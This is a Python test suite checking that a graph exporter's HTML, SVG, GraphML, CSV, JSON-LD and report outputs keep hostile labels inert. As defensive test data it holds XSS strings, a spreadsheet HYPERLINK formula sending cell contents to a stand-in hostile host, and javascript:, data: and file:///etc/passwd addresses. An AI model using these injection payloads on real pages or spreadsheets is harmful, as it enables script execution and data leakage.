"""Whatever an ontology says, an export only shows it: nothing runs, nothing is fetched."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
from dataclasses import replace
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest

from graph.exporters.answer_report import to_report
from graph.exporters.export_source import TABLES
from graph.exporters.graphml import to_graphml
from graph.exporters.html import to_html, viewer_script
from graph.exporters.json_ld import to_json_ld
from graph.exporters.safe_text import escaped, web_address, xml_text
from graph.exporters.svg import to_svg
from graph.exporters.tables import to_csv
from graph.reports.plain import cell_text

#: Everything a page of ours is built from.
HTML_TAGS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "header",
        "h1",
        "p",
        "main",
        "div",
        "button",
        "span",
        "noscript",
        "h2",
        "label",
        "input",
        "datalist",
        "option",
        "ul",
        "li",
        "table",
        "thead",
        "tr",
        "th",
        "tbody",
        "td",
        "footer",
        "script",
    ]
)
SVG_TAGS = frozenset(["svg", "title", "desc", "defs", "marker", "path", "rect", "g", "text"])


class Page(HTMLParser):
    """Tags, attributes, texts and scripts of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str | None]] = []
        self.scripts: list[str] = []
        self.texts: list[str] = []
        self.styles: list[str] = []
        self.inside = ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        """Note a tag; a script begins empty."""
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]
        self.inside = tag
        if tag == "script":
            self.scripts.append("")

    def handle_endtag(self, _tag):
        """Leave a script."""
        self.inside = ""

    def handle_data(self, data):
        """Note a text."""
        if self.inside == "script":
            self.scripts[-1] += data
        elif self.inside == "style":
            self.styles.append(data)
        else:
            self.texts.append(data)


@pytest.fixture(scope="module")
def page(hostile):
    """The page of the hostile map, parsed."""
    return Page(to_html(hostile))


def local(tag: str) -> str:
    """A tag without its namespace."""
    return tag.rpartition("}")[2]


def test_a_page_holds_no_tag_that_is_not_ours(page):
    """Markup in labels, definitions and reasons stays text."""
    assert set(page.tags) <= HTML_TAGS


def test_a_page_has_no_handlers_and_no_addresses(page):
    """No attribute runs or fetches anything."""
    names = {name for _, name, _ in page.attributes}

    assert not {name for name in names if name.startswith("on")}
    assert not names & {"href", "src", "srcdoc", "action", "formaction", "background", "data"}


def test_a_page_runs_only_the_scripts_its_policy_names(page):
    """Two scripts and a style, each allowed by its digest; data is no script."""
    policy = next(value for _, _, value in page.attributes if value and "default-src" in value)
    data, viewer, own = page.scripts

    for text in (viewer, own, *page.styles):
        digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in policy
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert "http" not in policy
    assert viewer == viewer_script()
    assert "<" not in data
    assert json.loads(data)["nodes"]


def test_a_page_shows_hostile_labels_as_they_are(page):
    """What is neutral in effect is still there to be read."""
    shown = "".join(page.texts)

    assert "<script>window.__xss=1</script>" in shown
    assert '=HYPERLINK("https://hostile.example/"&A1)' in shown


def test_a_picture_holds_no_tag_that_is_not_ours(hostile):
    """SVG can hold scripts, links and foreign pages; this one has none."""
    root = ElementTree.fromstring(to_svg(hostile.payload, hostile.headline))

    assert {local(item.tag) for item in root.iter()} <= SVG_TAGS
    names = {local(name) for item in root.iter() for name in item.attrib}
    assert not {name for name in names if name.startswith("on")}
    assert not names & {"href", "style", "src"}
    values = [value for item in root.iter() for value in item.attrib.values()]
    assert {value for value in values if "url(" in value} <= {"url(#arrow)", "url(#arrow-critical)"}


def test_a_picture_shows_hostile_labels_as_they_are(hostile):
    """The titles that are read aloud hold the labels unchanged."""
    root = ElementTree.fromstring(to_svg(hostile.payload, hostile.headline))
    titles = [item.text or "" for item in root.iter() if local(item.tag) == "title"]

    assert any(title.startswith("<script>window.__xss=1</script>\n") for title in titles)


def test_a_network_file_is_sound_xml_whatever_it_holds(hostile):
    """Control signs would make every reader of GraphML fail; they are replaced."""
    root = ElementTree.fromstring(to_graphml(hostile))
    texts = [item.text or "" for item in root.iter() if local(item.tag) == "data"]

    assert '"/><script>window.__xss=10</script>' in texts
    assert not [text for text in texts if "\x01" in text]


@pytest.mark.parametrize("table", TABLES)
def test_no_cell_of_a_table_is_a_formula(hostile, table):
    """A spreadsheet computes what begins with = + - @; numbers may begin with a minus."""
    rows = list(csv.reader(io.StringIO(to_csv(replace(hostile, table=table)))))
    cells = [cell for row in rows for cell in row]

    assert len({len(row) for row in rows}) == 1
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r"))
        assert not cell.startswith("-") or float(cell) <= 0


def test_json_ld_fetches_no_context(hostile):
    """The context stands in the file: prefixes alone, no address to load."""
    context = json.loads(to_json_ld(hostile))["@context"]

    assert isinstance(context, dict)
    assert "hostile" not in json.dumps(context)


def test_a_report_holds_no_markup_of_the_map(hostile):
    """Outside of links to sources no tag, no picture, no link in Markdown's own way."""
    text = to_report(hostile)
    without_links = re.sub(r"<https?://[^<>\s]*>", "", text)

    assert "<" not in without_links
    assert "![" not in text
    assert "](" not in text
    assert "\\!\\[a\\]" in text


@pytest.mark.parametrize(
    "address",
    [
        None,
        "",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>",
        "file:///etc/passwd",
        "//hostile.example/",
        "https:",
        "https://",
        "https://a b",
        "https://a/<script>",
        "https://a/>",
        'https://a/"onclick=',
        "https://a/\n](javascript:1)",
        "http://[::1",
        "ftp://a/",
    ],
)
def test_only_addresses_of_the_web_become_links(address):
    """Anything that runs, reads a file or breaks out of a link is no address."""
    assert web_address(address) is None


def test_an_honest_address_is_kept_as_it_is():
    """A query and a fragment belong to it."""
    assert web_address("http://example.org:80/a?b=c&d=(e)#f") is not None


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\t=1", "\r=1"])
def test_formulas_are_disarmed(text):
    """The sign that comes first is no longer the formula's."""
    assert cell_text(text) == "'" + text


@pytest.mark.parametrize("sign", [*map(chr, range(9)), "\x0b", "\x1f", "\ufffe", "\ud800"])
def test_signs_that_xml_cannot_hold_are_replaced(sign):
    """Not dropped: that something stood there is to be seen."""
    assert xml_text(f"a{sign}b") == "a\ufffdb"


def test_escaped_text_reads_back_the_same():
    """Quotes too, so that it may stand in an attribute of either kind."""
    text = "<a b=\"c\" d='e'>&amp;"
    read = ElementTree.fromstring(f"<x y=\"{escaped(text)}\" z='{escaped(text)}'/>")

    assert (read.get("y"), read.get("z")) == (text, text)
